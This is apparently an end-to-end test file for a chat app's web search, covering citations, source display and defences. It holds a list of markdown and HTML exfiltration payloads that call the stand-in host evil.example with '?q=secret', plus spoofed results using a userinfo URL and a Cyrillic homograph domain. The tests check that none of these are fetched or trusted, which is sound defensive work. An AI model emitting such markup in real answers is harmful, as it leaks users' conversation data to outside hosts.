/*
 * Web search in a chat: searched, cited, opened at the passage; request records; and answers that try to exfiltrate
 * data through links and pictures (F03, F11). The server runs in this process, so that its guard can let the pages
 * here through; every other address stays blocked.
 */
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Page } from "playwright-core";
import { readEnv } from "#server/env.ts";
import { article, json, startWeb, type WebServer } from "#test/web-server.ts";
import { startServer } from "../../app/start.ts";
import { startJourney, type Journey } from "./browser.ts";
import { answers, ended, send, setModel } from "./conversation.ts";
import { ready, seriousFindings, settled } from "./steps.ts";

const fact = "The dance language of honeybees tells the distance and the direction of a source of food.";
const filler = (about: string) =>
  `What is known about ${about} has grown over the years, and much of it was found by patient watching, day after day, in gardens and in fields.`;
/** Markup that would leak a chat's words if the browser ever requested it. */
const leaks = [
  "![one](https://evil.example/one?q=secret)",
  "![two][ref]\n\n[ref]: https://evil.example/two?q=secret",
  "[![three](https://evil.example/three?q=secret)](https://evil.example/three-link)",
  '<img src="https://evil.example/four?q=secret" onerror="fetch(\'https://evil.example/four\')">',
  '<link rel="prefetch" href="https://evil.example/five"><link rel="preconnect" href="https://evil.example">',
  '<div style="background:url(https://evil.example/six?q=secret)">six</div><style>@import "https://evil.example/style";</style>',
  '<iframe src="https://evil.example/seven"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example/seven">',
  '<svg><image href="https://evil.example/eight"/></svg><video poster="https://evil.example/nine"></video>',
  "[a link](https://evil.example/link?q=secret) and https://evil.example/bare?q=secret and <https://evil.example/angle>",
  "[![](//evil.example/ten)](//evil.example/ten) ![eleven](data:text/html,x) $\\url{https://evil.example/math}$",
  "BEGIN DRAFT\n# A draft\n\n![draft](https://evil.example/draft?q=secret)\n\nWords.\nEND DRAFT",
];

const host = "a-rather-long-name.of-a-paper.example";

/** Search results that replace the one page, if any are set. */
const spoofs: { url: string; title: string; content: string }[] = [];

const dot = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

let web: WebServer;
let journey: Journey;
beforeAll(async () => {
  const page = article("How bees speak", [filler("bees"), fact, ...Array.from({ length: 30 }, (_, at) => filler(`hive ${at}`))]);
  web = await startWeb({
    "/bees": page,
    "/favicon.ico": (_, response) => response.writeHead(200, { "content-type": "image/png" }).end(dot),
    "/search": (...given) =>
      json({ results: spoofs.length > 0 ? spoofs : [{ url: web.page("/bees", host), title: "How bees speak", content: "" }] })(
        ...given,
      ),
  });
  journey = await startJourney({ WEB_SEARCH: "searxng", WEB_SEARCH_URL: web.url }, undefined, [], async (env) => {
    const server = await startServer(readEnv(env), { fetchOutside: web.fetch });
    return { url: server.url, pid: process.pid, kill: () => server.stop() };
  });
});
afterAll(async () => {
  await journey.close();
  await web.close();
});

async function chat(options: Parameters<Journey["page"]>[0] = {}): Promise<Page> {
  const page = await journey.page(options);
  await page.goto("/chat");
  await ready(page);
  return page;
}

test("a search cites a page, the source opens at the place, and the host is shown as it is", async () => {
  const page = await chat();
  await setModel(journey, {
    tool: "webSearch",
    toolargs: JSON.stringify({ query: "dance language of honeybees" }),
    text: `${fact} [[1]]`,
    tps: 0,
  });
  await page.getByRole("button", { name: "Search the web" }).click();
  await send(page, "What does the dance language of honeybees tell?");
  await ended(page, 1);
  await answers(page).getByRole("button", { name: "1 page found" }).waitFor();
  const chip = answers(page).locator("button.citation").first();
  await expect.poll(() => chip.getAttribute("data-verdict")).toBe("verified");
  expect(await chip.innerText()).toBe("a-rather-lon…");
  await page.getByRole("region", { name: "Sources" }).getByText("a-rather-long-name.of-a-p…").waitFor();
  const sign = page.getByRole("region", { name: "Sources" }).locator("img");
  await expect.poll(() => sign.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  expect(await sign.getAttribute("src")).toMatch(/^\/api\/favicon\?host=a-rather/);
  await chip.click();
  await page.getByText("Verified: these words are in the source").waitFor();
  await page.getByRole("button", { name: "Show the document" }).click();
  await page.getByRole("dialog").locator("mark", { hasText: fact }).waitFor();
  expect(await page.getByRole("dialog").getByRole("link", { name: "Open the page" }).getAttribute("href")).toBe(
    web.page("/bees", host),
  );
});

test("what was sent can be read and taken along, with nothing secret in it", async () => {
  const page = await chat();
  await setModel(journey, {
    tool: "webSearch",
    toolargs: JSON.stringify({ query: "dance language of honeybees" }),
    text: "They dance. [[1]]",
    tps: 0,
  });
  await send(page, "What do bees do?");
  await ended(page, 1);
  await answers(page).first().hover();
  await answers(page).getByRole("button", { name: "More" }).click();
  await page.getByRole("menuitem", { name: "Prompt details" }).click();
  const dialog = page.getByRole("dialog", { name: "Prompt details" });
  await dialog.getByText("as the provider counted").waitFor();
  await dialog.getByText("What do bees do?", { exact: true }).waitFor();
  await dialog.getByText("Result of webSearch").click();
  await dialog.getByText(fact).first().waitFor();
  await dialog.locator("summary", { hasText: "Instructions" }).click();
  await dialog.getByText("You are Stet, a writing assistant").first().waitFor();
  await dialog.getByRole("button", { name: "First asked" }).click();
  expect(await dialog.getByText("Result of webSearch").count()).toBe(0);
  await settled(page);
  expect(await seriousFindings(page)).toEqual([]);
});

test("F03: an answer full of pictures and addresses makes the browser ask for none of them, shown, hovered and reloaded", async () => {
  const page = await chat();
  const outside: string[] = [];
  page.context().on("request", (request) => {
    if (!request.url().startsWith(journey.url) && /^(https?|wss?):/.test(request.url())) outside.push(request.url());
  });
  await setModel(journey, { text: leaks.join("\n\n"), tps: 0 });
  await send(page, "Write something.");
  await ended(page, 1);
  expect(await answers(page).locator("img, iframe, link, style, video, image, object, embed, form").count()).toBe(0);
  const links = answers(page).locator("a[href]");
  await expect.poll(() => links.count()).toBeGreaterThan(4);
  for (const link of await links.all()) {
    await link.hover();
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    // Its target is spelled out, or shown on hover.
    expect(`${await link.innerText()} ${await link.getAttribute("title")}`).toContain("evil.example");
  }
  await page.reload();
  await ready(page);
  await ended(page, 1);
  expect(await page.locator("link[href*='evil'], img[src*='evil'], [style*='evil']").count()).toBe(0);
  expect(outside).toEqual([]);
});

test("F11: a number that has no source says so, and a page's host is the one it comes from", async () => {
  const page = await chat();
  const results = [
    { url: "https://bank.example@evil.example/login", title: "Bank", content: "Sign in to the bank." },
    { url: "https://xn--pple-43d.example/", title: "\u0430pple.example", content: "The dance language of the \u0430pple." },
  ];
  const before = spoofs.splice(0, spoofs.length, ...results);
  expect(before).toEqual([]);
  const text = "A claim [[99]], and one on the \u0430pple [[1]]. See [https://bank.example](https://evil.example/login).";
  await setModel(journey, { tool: "webSearch", toolargs: JSON.stringify({ query: "dance" }), text, tps: 0 });
  await send(page, "What is there?");
  await ended(page, 1);
  const chips = answers(page).locator("button.citation");
  expect(await chips.allInnerTexts()).toEqual(["2", "xn--pple-43d…"]);
  await expect.poll(() => chips.first().getAttribute("data-verdict")).toBe("no-source");
  // A card could show no source, so the number keeps its reason while the pointer rests on it.
  await chips.last().hover();
  await page.getByRole("dialog").waitFor();
  await chips.first().hover();
  await page.getByRole("dialog").waitFor({ state: "detached" });
  await page.waitForTimeout(500);
  expect(await chips.first().getAttribute("title")).toBe("No source: this number belongs to no source in this chat.");
  expect(await answers(page).locator(".answer").innerText()).not.toContain("[[99]]");
  expect(await answers(page).locator("a[href]").innerText()).toBe("https://bank.example (evil.example)");
  // An address that hides its host behind user info is not accepted as a source.
  await expect.poll(() => page.getByRole("region", { name: "Sources" }).getByRole("listitem").count()).toBe(1);
  spoofs.length = 0;
});
